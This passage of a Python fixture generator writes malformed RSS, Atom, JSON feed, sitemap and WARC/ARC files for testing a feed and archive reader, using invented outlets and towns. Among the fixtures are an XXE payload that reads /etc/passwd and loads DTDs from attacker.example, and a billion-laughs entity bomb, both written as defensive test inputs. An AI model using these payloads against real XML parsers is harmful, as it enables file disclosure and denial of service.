"""Write the broken real-world feed and WARC files in this folder (run it to regenerate them).

Every file is invented: the outlets, places and people are fictional. Each one is broken the
way files from real crawlers and feed generators are broken; ``test_realworld.py`` says what
must be read from each. Output is deterministic (gzip mtime 0), so regenerating changes no
committed byte unless this script changes.

    python tests/stages/readers/realworld/make_fixtures.py
"""

from __future__ import annotations

import base64
import codecs
import gzip
import io
import itertools
import json
import zlib
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

HERE = Path(__file__).resolve().parent


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _item(title: str, link: str, text: str, date: str = "Tue, 04 Feb 2031 08:00:00 +0000") -> str:
    return (f"<item><title>{title}</title><link>{link}</link><pubDate>{date}</pubDate>"
            f"<description>{text}</description></item>\n")


def _rss(items: str, encoding: str = "utf-8", title: str = "Lowmoor Courier", doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}'
            f'<rss version="2.0"><channel><title>{title}</title><link>https://courier.example/</link>\n'
            f"<language>en</language>\n{items}</channel></rss>\n")


THREE = (_item("Dam inspected", "https://courier.example/dam",
               "Engineers inspected the Brennock dam on Monday and found no cracks.")
         + _item("Ferry delayed", "https://courier.example/ferry",
                 "The ferry to Callow Island was delayed by fog for six hours.")
         + _item("School reopens", "https://courier.example/school",
                 "The school in Pellworth reopened after the roof was repaired."))


def feeds() -> dict[str, bytes]:
    """File name -> bytes of every broken feed."""
    files: dict[str, bytes] = {}
    files["rss091-netscape.rss"] = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        '<rss version="0.91"><channel><title>Fenwick Gazette</title><link>https://gazette.example/</link>'
        "<description>News</description><language>en-us</language>\n"
        "<item><title>Harbour wall mended</title><link>https://gazette.example/wall</link>"
        "<description>Masons mended the harbour wall at Fenwick before the spring tides &mdash; "
        "the caf&eacute; on the quay reopened.</description></item>\n"
        "<item><title>Library fund</title><link>https://gazette.example/library</link>"
        "<description>A fund for the Fenwick library raised enough for new shelves.</description></item>\n"
        "</channel></rss>\n").encode("latin-1")
    files["rss10.rdf"] = (
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        b' xmlns:dc="http://purl.org/dc/elements/1.1/">\n'
        b'<channel rdf:about="https://wire.example/"><title>Ostrand Wire</title><link>https://wire.example/</link>'
        b"<items><rdf:Seq><rdf:li rdf:resource=\"https://wire.example/1\"/>"
        b"<rdf:li rdf:resource=\"https://wire.example/2\"/></rdf:Seq></items></channel>\n"
        b'<item rdf:about="https://wire.example/1"><title>Levee holds</title><link>https://wire.example/1</link>'
        b"<description>The levee at Ostrand held through the night, the water board said.</description>"
        b"<dc:date>2031-02-05T06:00:00+01:00</dc:date><dc:language>en</dc:language></item>\n"
        b'<item rdf:about="https://wire.example/2"><title>Roads closed</title><link>https://wire.example/2</link>'
        b"<description>Two roads into Ostrand stayed closed because of flooding.</description></item>\n"
        b"</rdf:RDF>\n")
    latin = _item("Café fermé", "https://courier.example/cafe",
                  "Le café de la place à Brennock est fermé après la crue, a déclaré le maire.")
    files["latin1-declared.rss"] = _rss(latin + THREE, "ISO-8859-1").encode("latin-1")
    cyr = _item("Мост закрыт", "https://courier.example/most",
                "Мост через реку у Бреннока закрыт после наводнения, сообщили власти.")
    files["cp1251-declared.rss"] = _rss(cyr, "windows-1251", title="Бреннокский вестник").encode("cp1251")
    # 镕 is in GBK but not in GB2312: feeds labelled gb2312 are routinely GBK in fact.
    cjk = _item("洪水过后", "https://courier.example/cn",
                "布伦诺克的洪水退去后，居民回到家中。陈国镕说学校将在周一复课。")
    files["gb2312-declared-gbk.rss"] = _rss(cjk, "gb2312", title="布伦诺克日报").encode("gbk")
    wrong = _item("Quay “closed”", "https://courier.example/quay",
                  "The quay at Pellworth is “closed” until Friday, the harbour master’s office said.")
    files["declared-utf8-is-cp1252.rss"] = _rss(wrong + THREE, "utf-8").encode("cp1252")
    files["declared-latin1-is-utf8.rss"] = _rss(latin + THREE, "iso-8859-1").encode("utf-8")
    files["really-gzip.rss"] = _gzip(_rss(THREE).encode())
    files["feed-gzip-no-extension"] = _gzip(_rss(THREE).encode())
    amp = _item("Fish & chips", "https://courier.example/fish?a=1&b=2",
                "Stalls selling fish & chips returned to the Callow Island pier.")
    files["unescaped-ampersand.rss"] = _rss(THREE[: THREE.index("<item>", 10)] + amp
                                            + THREE[THREE.index("<item>", 10):]).encode()
    files["html-entities.rss"] = _rss(
        _item("Hospital&nbsp;open", "https://courier.example/hospital",
              "The hospital in Pellworth is open&nbsp;again, the caf&eacute; too.") + THREE).encode()
    xxe = ('<!DOCTYPE rss [\n<!ENTITY local SYSTEM "file:///etc/passwd">\n'
           '<!ENTITY remote SYSTEM "http://attacker.example/x.dtd">\n<!ENTITY % pe SYSTEM "http://attacker.example/p">\n'
           "%pe;\n]>\n")
    files["external-entity.rss"] = _rss(
        _item("Entity item", "https://courier.example/ent", "Water is safe to drink in Brennock. &local; &remote;")
        + THREE, doctype=xxe).encode()
    laughs = ('<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
              '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>\n')
    files["billion-laughs.rss"] = _rss(
        _item("Laughs", "https://courier.example/lol", "Crews cleared mud in Ostrand. &f;") + THREE,
        doctype=laughs).encode()
    full = _rss(THREE).encode()
    files["truncated.rss"] = full[: full.index(b"roof was")]
    files["summary-and-link.rss"] = _rss(
        _item("Teaser only", "https://courier.example/teaser", "Read how Pellworth rebuilt its bridge.")
        + "<item><title>Link only</title><link>https://courier.example/link-only</link></item>\n").encode()
    files["bom-and-blank-line-first.rss"] = codecs.BOM_UTF8 + b"\r\n  " + _rss(THREE).encode()
    files["utf16-no-bom.rss"] = _rss(latin, "utf-16").encode("utf-16-le")
    page = ("<html><body><nav>Home | Sections</nav><article><p>The pumping station at Brennock ran all night "
            "and kept the lower streets dry, the water board said on Thursday.</p><p>Crews will check the "
            "pumps again before the weekend, when more rain is expected in the valley.</p></article>"
            "<footer>Copyright Lowmoor Courier</footer></body></html>")
    files["whole-page-in-cdata.rss"] = _rss(
        f"<item><title>Pumps</title><link>https://courier.example/pumps</link>"
        f"<description><![CDATA[{page}]]></description></item>\n").encode()
    _dialect_feeds(files)
    return files


RAIN = "Heavy rain flooded the lower streets of Tarrow overnight, and the council opened two shelters."
RAIN2 = "Volunteers in Tarrow filled sandbags at the depot until the river began to fall on Sunday."


def _dialect_feeds(files: dict[str, bytes]) -> None:
    """Feed dialects other than RSS 2.0, and ways generators break them."""
    files["rss090.rdf"] = (
        '<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns="http://my.netscape.com/rdf/simple/0.9/">\n<channel><title>Tarrow Bulletin</title>'
        "<link>https://bulletin.example/</link><description>Local news</description></channel>\n"
        f"<item><title>Shelters open</title><link>https://bulletin.example/shelters</link>"
        f"<description>{RAIN}</description></item>\n"
        "<item><title>Bridge repainted</title><link>https://bulletin.example/bridge</link></item>\n"
        "</rdf:RDF>\n").encode()
    files["rss092-untitled.rss"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="0.92"><channel><title>Quenby Notes</title>'
        "<link>https://notes.example/</link><description>Notes</description>\n"
        f"<item><description>&lt;p&gt;{RAIN}&lt;/p&gt;&lt;p&gt;{RAIN2}&lt;/p&gt;</description>"
        '<enclosure url="https://notes.example/rain.mp3" length="1200" type="audio/mpeg"/></item>\n'
        "<item><description>The Quenby library extended its opening hours for the winter.</description>"
        "<category>Town</category></item>\n</channel></rss>\n").encode()
    base64_text = base64.b64encode(RAIN2.encode()).decode()
    files["atom03-modes.atom"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed version="0.3" xmlns="http://purl.org/atom/ns#">'
        '<title>Hallsey Herald</title><link rel="alternate" type="text/html" href="https://herald.example/"/>\n'
        '<entry><title>Shelters open</title><link rel="alternate" type="text/html" href="https://herald.example/1"/>'
        "<issued>2031-02-04T08:00:00Z</issued><modified>2031-02-04T09:00:00Z</modified>"
        f'<content type="text/html" mode="escaped">&lt;p&gt;{RAIN}&lt;/p&gt;</content></entry>\n'
        '<entry><title>Sandbags</title><link rel="alternate" type="text/html" href="https://herald.example/2"/>'
        f'<modified>2031-02-05T10:00:00Z</modified><content type="text/plain" mode="base64">{base64_text}</content>'
        "</entry>\n"
        '<entry><title>Depot</title><link rel="alternate" type="text/html" href="https://herald.example/3"/>'
        '<issued>2031-02-06T07:30:00-05:00</issued><content type="application/xhtml+xml" mode="xml">'
        '<div xmlns="http://www.w3.org/1999/xhtml"><p>The depot at Hallsey will stay open all week.</p></div>'
        "</content></entry>\n</feed>\n").encode()
    files["atom10-xml-base.atom"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom" '
        'xml:base="https://herald.example/news/"><title type="text">Hallsey Herald</title>'
        "<updated>2031-02-06T10:00:00Z</updated><id>tag:herald.example,2031:feed</id>\n"
        '<entry><title type="html">Quay &lt;em&gt;reopens&lt;/em&gt;</title><link href="quay-reopens"/>'
        "<id>tag:herald.example,2031:1</id><published>2031-02-04T08:00:00+01:00</published>"
        f'<updated>2031-02-05T08:00:00Z</updated><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        f"<p>{RAIN}</p><p>{RAIN2}</p></div></content></entry>\n"
        '<entry xml:base="/archive/"><title>Tide tables</title><link rel="alternate" href="tide.html"/>'
        '<link rel="enclosure" href="tide.pdf"/><id>tag:herald.example,2031:2</id>'
        '<updated>2031-02-06T06:00:00Z</updated><summary type="html">&lt;p&gt;New tide tables for Hallsey '
        "harbour are posted at the quay.&lt;/p&gt;</summary></entry>\n</feed>\n").encode()
    files["content-encoded.rss"] = _rss(
        '<item><title>Flood night</title><link>https://courier.example/flood</link>'
        "<description>Short teaser about the flood.</description>"
        f"<content:encoded><![CDATA[<p>{RAIN}</p><figure><img src='a.jpg'/></figure><p>{RAIN2}</p>]]>"
        "</content:encoded></item>\n"
        '<item><title>Teaser kept</title><link>https://courier.example/teaser2</link>'
        "<description>The Tarrow market reopens on Tuesday.</description><content:encoded></content:encoded>"
        "</item>\n").replace('<rss version="2.0">', '<rss version="2.0" '
                             'xmlns:content="http://purl.org/rss/1.0/modules/content/">').encode()
    files["php-warning-first.rss"] = (
        b"\n<br />\n<b>Warning</b>:  Cannot modify header information - headers already sent in "
        b"<b>/srv/site/feed.php</b> on line <b>4</b><br />\n" + _rss(THREE).encode())
    files["control-characters.rss"] = _rss(
        _item("Pumps", "https://courier.example/pumps2",
              "The pumps at Brennock\x0b ran all night\x1b and kept the streets dry.") + THREE).encode()
    files["items-outside-channel.rss"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Lowmoor Courier</title>'
        f"<link>https://courier.example/</link></channel>\n{THREE}</rss>\n").encode()
    files["naked-markup-item.rss"] = _rss(
        THREE[: THREE.index("<item>", 10)]
        + "<item><title>Warning</title><link>https://courier.example/warn</link><description><p>A flood <b>warning"
          "</p> stays in force for the Tarrow valley.</description></item>\n"
        + THREE[THREE.index("<item>", 10):]).encode()
    whole = _rss(THREE).encode()
    files["cut-between-items.rss"] = whole[: whole.rindex(b"</item>") + len(b"</item>\n")]
    # No declaration and no BOM: the bytes alone say which legacy encoding they are.
    for name, codec, text in (
        ("undeclared-windows1255.rss", "cp1255",
         "הגשם הכבד הציף את הרחובות התחתונים של טארו בלילה, והמועצה פתחה שני מקלטים לתושבים שנאלצו לעזוב."),
        ("undeclared-big5.rss", "big5",
         "昨晚大雨淹沒了塔羅鎮的低窪街道，鎮議會開放了兩個避難所，志願者在倉庫裝沙袋直到河水退去。"),
        ("undeclared-euc-kr.rss", "euc-kr",
         "어젯밤 폭우로 타로 시내의 낮은 거리가 물에 잠겼고, 시의회는 주민들을 위해 대피소 두 곳을 열었다."),
    ):
        files[name] = (f"<rss version=\"2.0\"><channel><title>Tarrow</title>\n"
                       f"<item><title>Tarrow</title><link>https://tarrow.example/1</link>"
                       f"<description>{text}</description></item>\n</channel></rss>\n").encode(codec)
    dated = "".join(
        f"<item><title>Date {i}</title><guid isPermaLink=\"true\">https://courier.example/d{i}</guid>"
        f"<pubDate>{when}</pubDate><description>Report number {i} from the Tarrow valley.</description></item>\n"
        for i, when in enumerate(("Tue, 4 Feb 2031 23:30:00 -0800", "Tue, 04 Feb 2031 08:00:00 GMT",
                                  "2031-02-04T08:00:00+05:30", "2031-02-04 08:00:00", "Tuesday, February 4, 2031",
                                  "Tue, 04 Feb 2031 08:00 EST", "04 Feb 2031"), start=1))
    files["date-dialects.rss"] = _rss(dated).encode()
    cafe = _item("Café fermé", "https://courier.example/cafe2",
                 "Le café du port à Tarrow est fermé, a déclaré le maire.")
    files["bom-beats-declaration.rss"] = codecs.BOM_UTF8 + _rss(cafe + THREE, "ISO-8859-1").encode("utf-8")
    ru = _item("Убежища открыты", "https://tarrow.example/ru",
               "Сильный дождь затопил нижние улицы Тарроу, и городской совет открыл два убежища для жителей.")
    files["declared-latin1-is-cp1251.rss"] = _rss(ru, "ISO-8859-1", title="Тарроу").encode("cp1251")
    files["double-escaped.rss"] = _rss(
        _item("Fish &amp;amp; chips &amp;#8217;n peas", "https://courier.example/fish2",
              "&amp;lt;p&amp;gt;Stalls &amp;amp;amp; carts returned to the Tarrow pier.&amp;lt;/p&amp;gt;")
        + _item("Pier reopens", "https://courier.example/pier",
                "<![CDATA[&lt;p&gt;The pier at Tarrow reopened.&lt;/p&gt;&lt;p&gt;Anglers came back.&lt;/p&gt;]]>")
        ).encode()
    files["atom-id-as-link.atom"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Hallsey Herald'
        "</title>\n<entry><title>Id only</title><id>https://herald.example/2031/id-only</id>"
        f'<updated>2031-02-06T06:00:00Z</updated><content type="text">{RAIN}</content></entry>\n'
        '<entry><title>Out of line</title><id>tag:herald.example,2031:9</id><link href="https://herald.example/s"/>'
        '<content src="https://herald.example/s.html" type="text/html"/><summary>The Tarrow summary.</summary>'
        "</entry>\n</feed>\n").encode()
    files["nul-padded-feed.rss"] = _rss(THREE).encode() + b"\x00" * 4096  # preallocated, then cut by a crash
    files["relative-links.atom"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Hallsey Herald'
        '</title><link rel="alternate" href="https://herald.example/"/>\n<entry><title>Relative</title>'
        f'<link href="/2031/relative"/><updated>2031-02-06T06:00:00Z</updated><content type="text">{RAIN}</content>'
        "</entry>\n</feed>\n").encode()
    files["plain-text-paragraphs.rss"] = _rss(
        _item("Plain", "https://courier.example/plain", f"{RAIN}\n\n{RAIN2} Roads &amp; bridges reopened.")).encode()
    files["charrefs-out-of-range.rss"] = _rss(
        _item("Gauge &#xD800; broke", "https://courier.example/gauge",
              "The river gauge at Tarrow sent &#55296; and &#1114112; before it failed&#1;.") + THREE).encode()
    files["mangled-link.rss"] = (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><link>https://courier.example/</link>\n'
        + _item("Broken link", "http://[courier.example/broken", RAIN)
        + _item("Fine link", "/fine", RAIN2) + "</channel></rss>\n").encode()
    files["utf16-be-with-bom.rss"] = codecs.BOM_UTF16_BE + _rss(cafe + THREE, "utf-16").encode("utf-16-be")
    files["news-sitemap.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        b'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">\n'
        b"<url><loc>https://courier.example/dam</loc><news:news><news:publication><news:name>Lowmoor Courier"
        b"</news:name><news:language>en</news:language></news:publication>"
        b"<news:publication_date>2031-02-04</news:publication_date><news:title>Dam inspected</news:title>"
        b"</news:news></url>\n</urlset>\n")
    files["sitemap-index.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<sitemap><loc>https://courier.example/sitemap-1.xml</loc></sitemap>"
        b"<sitemap><loc>https://courier.example/sitemap-2.xml.gz</loc></sitemap></sitemapindex>\n")
    files["sitemap.xml.gz"] = _gzip(
        b'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<url><loc>https://courier.example/dam</loc><lastmod>2031-02-04</lastmod></url>"
        b"<url><loc>https://courier.example/ferry</loc></url></urlset>\n")
    files["link-list.txt"] = b"https://courier.example/dam\nhttps://courier.example/ferry\n\nwww.courier.example/school\n"
    news_api = {"status": "ok", "totalResults": 2, "articles": [
        {"source": {"id": None, "name": "Quenby Daily"}, "author": "R. Ames", "title": "Shelters open",
         "description": "Two shelters opened.", "url": "https://daily.example/api1", "urlToImage": None,
         "publishedAt": "2031-02-04T08:00:00Z", "content": f"{RAIN} Volunteers filled sandbags\u2026 [+1520 chars]"},
        {"source": {"id": "qd", "name": "Quenby Daily"}, "title": "Market", "description": "The Quenby market "
         "reopens on Tuesday.", "url": "https://daily.example/api2", "publishedAt": "2031-02-05T09:00:00Z",
         "content": None}]}
    files["news-api-response.json"] = json.dumps(news_api).encode()
    files["api-results.json"] = json.dumps({"meta": {"page": 1, "pages": 1}, "results": [
        {"title": "Depot", "text": RAIN2, "date": "2031-02-06"}, {"title": "Empty", "text": ""}]}).encode()
    json_feed = {"version": "https://jsonfeed.org/version/1", "title": "Quenby Daily",
                 "home_page_url": "https://daily.example/", "items": [
                     {"id": "https://daily.example/1", "url": "https://daily.example/1", "title": "Shelters open",
                      "content_html": f"<p>{RAIN}</p><p>{RAIN2}</p>", "summary": "Two shelters.",
                      "date_published": "2031-02-04T08:00:00+01:00", "author": {"name": "R. Ames"}},
                     {"id": "2", "title": "Market", "content_text": "The Quenby market reopens on Tuesday.\n\n"
                                                                    "Stallholders cleared the square.",
                      "date_modified": "2031-02-05T09:00:00Z", "external_url": "https://elsewhere.example/m"},
                     {"id": "3", "url": "https://daily.example/photo", "title": "Photo only",
                      "image": "https://daily.example/p.jpg"}]}
    # crawler output as users meet it: news-please-style keys, one record per line, one line broken
    crawled = [
        {"title": "Shelters open", "maintext": f"{RAIN}\n\n{RAIN2}", "date_publish": "2031-02-04 08:00:00",
         "url": "https://daily.example/np1", "source_domain": "daily.example", "language": "en",
         "description": "Two shelters opened.", "authors": ["R. Ames"]},
        {"title": "Teaser only", "maintext": None, "description": "The Quenby market reopens on Tuesday.",
         "publish_date": "2031-02-05T09:00:00", "url": "https://daily.example/np2", "domain": "daily.example"},
        {"title": "No text", "maintext": "", "url": "https://daily.example/np3"},
        {"title": "Html body", "maintext": f"<p>{RAIN}</p><p>{RAIN2}</p>", "published_at": "2031-02-06T10:00:00Z",
         "url": "https://daily.example/np4"},
    ]
    lines = [json.dumps(obj, ensure_ascii=False) for obj in crawled]
    lines.insert(2, '{"title": "Broken", "maintext": "The line ends before its closing brace"')
    files["crawler-output.jsonl"] = ("\n".join(lines) + "\n").encode()
    files["jsonfeed-1.0.json"] = json.dumps(json_feed, indent=1).encode()
    json_feed11 = {"version": "https://jsonfeed.org/version/1.1", "title": "Quenby Daily", "language": "en-GB",
                   "authors": [{"name": "Desk"}], "items": [
                       {"id": "a1", "url": "https://daily.example/a1", "content_text": RAIN,
                        "date_published": "2031-02-04T08:00:00Z"},
                       {"id": "a2", "url": "https://daily.example/a2", "title": "Bad", "content_html": 5},
                       {"id": "a3", "url": "https://daily.example/a3", "title": "Sandbags", "content_text": RAIN2,
                        "language": "en-US"}]}
    files["jsonfeed-1.1.json"] = json.dumps(json_feed11).encode()


def _page(title: str, text: str) -> bytes:
    paras = "".join(f"<p>{p}</p>" for p in text.split("\n"))
    return (f"<!DOCTYPE html><html><head><title>{title}</title></head><body><nav>Home | Region</nav>"
            f"<article><h1>{title}</h1>{paras}</article><footer>Copyright Lowmoor Courier</footer>"
            f"</body></html>").encode()


PAGES = [
    ("Brennock dam inspected",
     "Engineers spent Monday inspecting the Brennock dam after a week of heavy rain in the valley.\n"
     "They found no cracks in the wall, and the spillway was clear of debris, the water board said."),
    ("Ferry to Callow Island delayed",
     "Thick fog delayed the ferry to Callow Island by six hours on Tuesday, stranding commuters.\n"
     "The operator said sailings would return to the usual timetable once visibility improved."),
    ("Pellworth school reopens",
     "The primary school in Pellworth reopened on Wednesday after builders repaired its roof.\n"
     "Parents said the children were glad to be back in their own classrooms after a month away."),
]


def _chunked(body: bytes, size: int = 50) -> bytes:
    out = b""
    for i in range(0, len(body), size):
        part = body[i:i + size]
        out += f"{len(part):x}\r\n".encode() + part + b"\r\n"
    return out + b"0\r\n\r\n"


class _Warc:
    def __init__(self, gzip_records: bool = False) -> None:
        self.buf = io.BytesIO()
        self.writer = WARCWriter(self.buf, gzip=gzip_records)
        self.ends: list[int] = []

    def _headers(self) -> dict[str, str]:
        """Fixed id and date, so that regenerating the files changes no byte."""
        return {"WARC-Record-ID": f"<urn:uuid:00000000-0000-4000-8000-{len(self.ends) + 1:012d}>",
                "WARC-Date": "2031-02-06T10:00:00Z"}

    def response(self, uri: str, payload: bytes, ctype: str = "text/html; charset=utf-8",
                 extra: tuple[tuple[str, str], ...] = (), status: str = "200 OK") -> None:
        fields = [("Content-Type", ctype)] if ctype else []
        headers = StatusAndHeaders(status, [*fields, *extra], protocol="HTTP/1.1")
        rec = self.writer.create_warc_record(uri, "response", payload=io.BytesIO(payload), length=len(payload),
                                             http_headers=headers,
                                             warc_headers_dict=self._headers())
        self.writer.write_record(rec)
        self.ends.append(self.buf.tell())

    def revisit(self, uri: str) -> None:
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
        rec = self.writer.create_revisit_record(uri, digest="sha1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                                                refers_to_uri=uri, refers_to_date="2031-02-01T10:00:00Z",
                                                http_headers=headers, warc_headers_dict=self._headers())
        self.writer.write_record(rec)
        self.ends.append(self.buf.tell())

    def pages(self) -> None:
        for i, (title, text) in enumerate(PAGES, start=1):
            self.response(f"https://courier.example/p{i}", _page(title, text))

    def data(self) -> bytes:
        return self.buf.getvalue()


def _members(data: bytes, cuts: list[int]) -> bytes:
    """Gzip ``data`` as one member per slice between ``cuts`` (byte offsets of the plain WARC)."""
    bounds = [0, *cuts, len(data)]
    return b"".join(_gzip(data[a:b]) for a, b in itertools.pairwise(bounds))


def _lf_only() -> bytes:
    """Records whose WARC and HTTP headers end lines with LF alone (lengths are right)."""
    out = b""
    for i, (title, text) in enumerate(PAGES, start=1):
        block = b"HTTP/1.1 200 OK\nContent-Type: text/html\n\n" + _page(title, text)
        out += (b"WARC/1.0\nWARC-Type: response\nWARC-Target-URI: https://courier.example/lf%d\n"
                b"WARC-Date: 2031-02-06T10:00:00Z\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-00000000010%d>\n"
                b"Content-Type: application/http; msgtype=response\nContent-Length: %d\n\n%s\n\n"
                % (i, i, len(block), block))
    return out


def _arc(gzip_records: bool) -> bytes:
    """An ARC (version 1) file: a filedesc:// record, then one record per capture."""
    desc = b"1 0 Lowmoor Courier\nURL IP-address Archive-date Content-type Archive-length\n"
    records = [b"filedesc://lowmoor.arc 0.0.0.0 20310206100000 text/plain %d\n%s\n" % (len(desc), desc)]
    for i, (title, text) in enumerate(PAGES, start=1):
        http = b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n" + _page(title, text)
        head = b"https://courier.example/a%d 192.0.2.1 20310206100000 text/html %d\n" % (i, len(http))
        records.append(head + http + b"\n")
    return b"".join(_gzip(r) for r in records) if gzip_records else b"".join(records)


def warcs() -> dict[str, bytes]:
    """File name -> bytes of every broken WARC."""
    files: dict[str, bytes] = {}
    plain = _Warc()
    plain.pages()
    data = plain.data()
    files["one-gzip-member.warc.gz"] = _gzip(data)  # the whole file as one member
    files["members-across-records.warc.gz"] = _members(data, [len(data) // 5, len(data) // 2, len(data) - 300])
    per_record = _Warc(gzip_records=True)
    per_record.pages()
    zipped = per_record.data()
    files["clipped-record.warc.gz"] = zipped[: per_record.ends[1] + (per_record.ends[2] - per_record.ends[1]) // 2]
    files["clipped-record.warc"] = data[: plain.ends[1] + 600]  # inside the third page
    files["clipped-header.warc"] = data[: plain.ends[1] + 200]  # inside the third record's WARC header
    revisit = _Warc()
    revisit.pages()
    revisit.revisit("https://courier.example/p1")
    revisit.revisit("https://courier.example/p2")
    files["revisits.warc"] = revisit.data()
    enc = _Warc()
    title, text = PAGES[0]
    enc.response("https://courier.example/chunked", _chunked(_page(title, text)),
                 extra=(("Transfer-Encoding", "chunked"),))
    title, text = PAGES[1]
    enc.response("https://courier.example/gzipped", _gzip(_page(title, text)), extra=(("Content-Encoding", "gzip"),))
    title, text = PAGES[2]
    deflated = zlib.compress(_page(title, text))
    enc.response("https://courier.example/both", _chunked(deflated, 40),
                 extra=(("Content-Encoding", "deflate"), ("Transfer-Encoding", "chunked")))
    files["chunked-and-gzip-payloads.warc"] = enc.data()
    mixed = _Warc()
    mixed.response("https://courier.example/report.pdf", b"%PDF-1.4 not a page", ctype="application/pdf")
    mixed.response("https://courier.example/api", b'{"status": "ok"}', ctype="application/json")
    mixed.response("https://courier.example/logo.png", b"\x89PNG\r\n\x1a\n", ctype="image/png")
    mixed.response("https://courier.example/old", b"<html>moved</html>", status="301 Moved Permanently")
    title, text = PAGES[2]
    mixed.response("https://courier.example/p3", _page(title, text))
    files["non-html-responses.warc"] = mixed.data()
    odd = _Warc()
    title, text = PAGES[0]
    odd.response("https://courier.example/said-chunked", _page(title, text), extra=(("Transfer-Encoding", "chunked"),))
    title, text = PAGES[1]
    odd.response("https://courier.example/said-gzip", _page(title, text), extra=(("Content-Encoding", "gzip"),))
    title, text = PAGES[2]
    odd.response("https://courier.example/no-type", _page(title, text), ctype="")
    files["mislabelled-payloads.warc"] = odd.data()
    # The first record's Content-Length is 20 bytes short: its last 20 bytes sit before the next header.
    head_end = data.index(b"\r\n\r\n")
    length_at = data.index(b"Content-Length: ", 0, head_end) + len(b"Content-Length: ")
    length_end = data.index(b"\r\n", length_at)
    short = str(int(data[length_at:length_end]) - 20).encode()
    files["wrong-content-length.warc"] = data[:length_at] + short + data[length_end:]
    four = _Warc()
    four.pages()
    four.response("https://courier.example/p4", _page(*PAGES[0]))
    data4 = four.data()
    long_at = data4.index(b"Content-Length: ", four.ends[0]) + len(b"Content-Length: ")
    long_end = data4.index(b"\r\n", long_at)
    longer = str(int(data4[long_at:long_end]) + 300).encode()  # swallows the third record's header
    files["content-length-too-long.warc"] = data4[:long_at] + longer + data4[long_end:]
    files["lf-only-headers.warc"] = _lf_only()
    member = per_record.ends[1] - per_record.ends[0]
    middle = per_record.ends[0] + member // 2
    files["corrupt-gzip-member.warc.gz"] = zipped[:middle] + b"\xff" * 40 + zipped[middle + 40:]
    files["nul-padded.warc.gz"] = zipped + b"\x00" * 512
    files["legacy.arc"] = _arc(gzip_records=False)
    files["legacy-gz.arc.gz"] = _arc(gzip_records=True)
    _warc_dialects(files)
    return files


def _raw(wtype: str, uri: str, block: bytes, ctype: str = "application/http; msgtype=response",
         version: bytes = b"WARC/1.0", n: int = 1, extra: bytes = b"", date: str = "2031-02-06T10:00:00Z") -> bytes:
    """One WARC record written by hand, for headers warcio's writer would normalise."""
    head = (b"%s\r\nWARC-Type: %s\r\nWARC-Target-URI: %s\r\nWARC-Date: %s\r\n"
            b"WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-%012d>\r\n" % (version, wtype.encode(), uri.encode(),
                                                                                 date.encode(), n))
    if ctype:
        head += b"Content-Type: %s\r\n" % ctype.encode()
    return head + extra + b"Content-Length: %d\r\n\r\n%s\r\n\r\n" % (len(block), block)


def _http(body: bytes, status: bytes = b"HTTP/1.1 200 OK", headers: bytes = b"Content-Type: text/html\r\n") -> bytes:
    return status + b"\r\n" + headers + b"\r\n" + body


def _warc_dialects(files: dict[str, bytes]) -> None:
    """Record types, versions and HTTP habits other than the plain 1.0 response."""
    pages = [_page(title, text) for title, text in PAGES]
    files["versions-018-and-11.warc"] = (
        _raw("response", "https://courier.example/v1", _http(pages[0]), version=b"WARC/0.18", n=1)
        + _raw("response", "https://courier.example/v2", _http(pages[1]), version=b"WARC/1.1", n=2,
               date="2031-02-06T10:00:00.123456Z")
        + _raw("response", "https://courier.example/v3", _http(pages[2]), version=b"WARC/0.17", n=3))
    info = b"software: invented-crawler/0.1\r\nformat: WARC File Format 1.0\r\n"
    files["record-types.warc"] = (
        _raw("warcinfo", "", info, ctype="application/warc-fields", n=1)
        + _raw("request", "https://courier.example/r1", b"GET /r1 HTTP/1.1\r\nHost: courier.example\r\n\r\n",
               ctype="application/http; msgtype=request", n=2)
        + _raw("response", "https://courier.example/r1", _http(pages[0]), n=3)
        + _raw("metadata", "https://courier.example/r1", b"fetchTimeMs: 120\r\n", ctype="application/warc-fields", n=4)
